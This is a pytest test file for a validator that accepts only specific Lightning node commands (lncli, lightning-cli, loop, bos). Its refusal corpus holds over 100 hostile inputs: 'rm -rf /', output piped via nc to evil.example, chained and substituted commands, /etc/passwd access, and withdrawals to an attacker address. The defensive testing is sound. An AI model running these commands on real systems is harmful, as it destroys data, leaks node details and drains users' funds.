"""The grammar lets through what we print and nothing else: attacks, look-alikes, wrong types, unknown targets."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recommendations.domain.grammar import ALLOWED_CHARACTERS, Platform, check
from recommendations.domain.limits import Limits
from tests.recommendations.domain.factories import key, point

SCID = "800001x1x0"
CHAN_ID = (800_001 << 40) | (1 << 16)
KNOWN = frozenset({SCID, point(1), key(1), key(2)})
POLICY = f"lncli updatechanpolicy --base_fee_msat 0 --fee_rate_ppm 250 --time_lock_delta 80 --chan_point {point(1)}"
SETCHANNEL = f"lightning-cli -k setchannel id={SCID} feebase=0 feeppm=250"
REBALANCE = f"bos rebalance --out {key(1)} --in {key(2)} --amount 500000 --max-fee 100 --max-fee-rate 200"

GOOD = (
    (POLICY, Platform.LND, False),
    (f"{POLICY} --min_htlc_msat 1000 --max_htlc_msat 2000000000", Platform.LND, False),
    (f"{POLICY} --inbound_base_fee_msat 0 --inbound_fee_rate_ppm -250", Platform.LND, False),
    (f"lncli openchannel --node_key {key(1)} --local_amt 2000000 --sat_per_vbyte 5", Platform.LND, False),
    (f"lncli closechannel --chan_point {point(1)}", Platform.LND, False),
    (f"lncli getchaninfo --chan_id {CHAN_ID}", Platform.LND, True),
    ("lncli fwdinghistory --start_time -7d --max_events 50000", Platform.LND, True),
    ("lncli getinfo", Platform.LND, True),
    ("lncli pendingchannels", Platform.LND, True),
    (REBALANCE, Platform.LND, False),
    ("loop quote out 1000000", Platform.LND, True),
    (f"loop out --amt 1000000 --channel {CHAN_ID},{CHAN_ID} --max_swap_routing_fee 5000", Platform.LND, False),
    (f"loop in --amt 1000000 --last_hop {key(1)}", Platform.LND, False),
    ("charge-lnd -c recommendation.config --dry-run", Platform.LND, False),
    (SETCHANNEL, Platform.CLN, False),
    (f"lightning-cli -k setchannel id={SCID} htlcmax=1000000", Platform.CLN, False),
    (f"lightning-cli -k fundchannel id={key(1)} amount=2000000 feerate=5000perkb", Platform.CLN, False),
    (f"lightning-cli -k close id={SCID} unilateraltimeout=0", Platform.CLN, False),
    (f"lightning-cli -k connect id={key(1)}", Platform.CLN, False),
    ("lightning-cli -k listforwards status=settled", Platform.CLN, True),
)

ATTACKS = (
    "",
    " ",
    "ls",
    "rm -rf /",
    "bash -c id",
    "sudo lncli getinfo",
    "/usr/bin/lncli getinfo",
    "./lncli getinfo",
    "lncli",
    "lncli stop",
    "lncli sendcoins --addr bc1qattacker --amt 1000000",
    "lncli sendpayment --pay_req lnbc1",
    "lncli payinvoice lnbc1",
    "lncli exportchanbackup --all",
    "lncli bakemacaroon --root_key_id 0 offchain:write",
    "lncli --rpcserver evil.example:10009 getinfo",
    "lncli getinfo; rm -rf /",
    "lncli getinfo && reboot",
    "lncli getinfo | nc evil.example 99",
    "lncli getinfo & reboot",
    "lncli getinfo $(reboot)",
    "lncli getinfo `reboot`",
    "lncli getinfo > /etc/passwd",
    "lncli getinfo < /etc/passwd",
    "lncli getinfo\nreboot",
    "lncli getinfo\rreboot",
    "lncli getinfo\x00",
    "lncli\tgetinfo",
    "lncli  getinfo",
    " lncli getinfo",
    "lncli getinfo ",
    "lncli getinfo #",
    "lncli getinfo *",
    "lncli getinfo 'x'",
    'lncli getinfo "x"',
    "lncli getinfo \\x",
    "lncli getinfo {a,b}",
    "lncli getinfo ~",
    "lncli getinfo !!",
    "lncli getinfo extra",
    "lnclі getinfo",  # Cyrillic і
    "ｌｎｃｌｉ getinfo",  # full width
    "lncli getinfo\u200b",
    "lncli\u00a0getinfo",
    "lncli\u2028getinfo",
    "lncli getinfo \u202e",
    POLICY.replace("--", "—"),
    POLICY.replace("250", "２５０"),
    POLICY.rsplit(" --chan_point", 1)[0],  # would change every channel
    POLICY.replace(" --time_lock_delta 80", ""),
    POLICY.replace(" --base_fee_msat 0", ""),
    POLICY.replace("--fee_rate_ppm 250", "--fee_rate 0.00025"),
    POLICY.replace("250", "-250"),
    POLICY.replace("250", "10001"),
    POLICY.replace("250", "0x10"),
    POLICY.replace("250", "1e3"),
    POLICY.replace("250", "007"),
    POLICY.replace("250", "99999999999999999999"),
    POLICY.replace("_msat 0", "_msat 10001"),
    POLICY.replace("delta 80", "delta 18"),
    POLICY.replace("delta 80", "delta 4032"),
    POLICY.replace(point(1), point(2)),
    POLICY.replace(point(1), "all"),
    POLICY.replace(point(1), point(1) + ",x"),
    f"{POLICY} --chan_point {point(1)}",
    f"{POLICY} --force",
    f"{POLICY} --inbound_fee_rate_ppm -10",
    f"{POLICY} --inbound_base_fee_msat 0 --inbound_fee_rate_ppm 10",
    f"{POLICY} --inbound_base_fee_msat 0 --inbound_fee_rate_ppm -251",
    f"{POLICY} --inbound_base_fee_msat -1 --inbound_fee_rate_ppm 0",
    f"{POLICY} --min_htlc_msat 2000 --max_htlc_msat 1000",
    f"lncli closechannel --chan_point {point(1)} --force",
    f"lncli closechannel --chan_point {point(1)} --delivery_addr bc1qattacker",
    "lncli closeallchannels",
    f"lncli openchannel --node_key {key(9)} --local_amt 2000000",
    f"lncli openchannel --node_key {key(1)} --local_amt 2000000 --push_amt 1000000",
    f"lncli openchannel --node_key {key(1)} --local_amt 19999",
    f"lncli openchannel --node_key 03{'AB' * 32} --local_amt 2000000",
    f"lncli getchaninfo --chan_id {CHAN_ID + 1}",
    "lncli getchaninfo --chan_id 18446744073709551616000",
    "lncli fwdinghistory --start_time 0 --max_events 50001",
    "lightning-cli stop",
    "lightning-cli -k stop",
    f"lightning-cli setchannel {SCID} 0 250",
    SETCHANNEL.replace(SCID, "all"),
    SETCHANNEL.replace(SCID, key(1)),
    SETCHANNEL.replace("id=", "peer="),
    f"{SETCHANNEL} feeppm=1",
    f"lightning-cli -k setchannel id={SCID}",
    f"lightning-cli -k setchannel id={SCID} feeppm=1=2",
    f"lightning-cli -k close id={SCID}",
    f"lightning-cli -k close id={SCID} unilateraltimeout=1",
    f"lightning-cli -k close id={SCID} unilateraltimeout=0 destination=bc1qattacker",
    f"lightning-cli -k fundchannel id={key(1)} amount=all",
    f"lightning-cli -k fundchannel id={key(1)} amount=2000000 push_msat=1000000000",
    "lightning-cli -k withdraw destination=bc1qattacker satoshi=all",
    "lightning-cli -k pay bolt11=lnbc1",
    REBALANCE.replace(" --max-fee 100", ""),
    REBALANCE.replace(" --max-fee-rate 200", ""),
    REBALANCE.replace("--max-fee 100", "--max-fee 2501"),
    REBALANCE.replace("--max-fee-rate 200", "--max-fee-rate 5001"),
    REBALANCE.replace("500000", "99999"),
    REBALANCE.replace(key(2), key(1)),
    REBALANCE.replace(key(2), key(9)),
    "loop out --amt 1000000",
    "loop out --amt 1000000 --max_swap_routing_fee 5000 --addr bc1qattacker",
    "loop out --amt 1000000 --max_swap_routing_fee 5000 --force",
    "charge-lnd -c /etc/passwd",
    "charge-lnd --dry-run",
    "a" * 601,
)


@pytest.mark.parametrize(("command", "platform", "is_read_only"), GOOD)
def test_what_we_print_passes(command, platform, is_read_only):
    verdict = check(command, known=KNOWN)

    assert verdict.is_allowed, verdict.reason
    assert verdict.platform is platform
    assert verdict.is_read_only is is_read_only


@pytest.mark.parametrize("command", ATTACKS)
def test_everything_else_is_refused_with_a_reason(command):
    verdict = check(command, known=KNOWN)

    assert not verdict.is_allowed
    assert verdict.reason


def test_the_attack_corpus_is_not_small():
    assert len(set(ATTACKS)) >= 100


@given(st.text(max_size=120))
def test_no_text_raises(text):
    check(text, known=KNOWN)


@given(st.sampled_from([command for command, _, _ in GOOD]), st.data())
def test_one_foreign_sign_anywhere_is_refused(command, data):
    sign = data.draw(st.characters(exclude_characters="".join(sorted(ALLOWED_CHARACTERS))))
    place = data.draw(st.integers(0, len(command)))

    assert not check(command[:place] + sign + command[place:], known=KNOWN).is_allowed


def test_the_parameters_come_back_by_name():
    assert check(POLICY, known=KNOWN).parameters["--fee_rate_ppm"] == "250"


def test_a_blacklisted_target_is_refused_even_when_known():
    limits = Limits(blacklist=frozenset({SCID}))

    assert "blacklist" in check(SETCHANNEL, known=KNOWN, limits=limits).reason
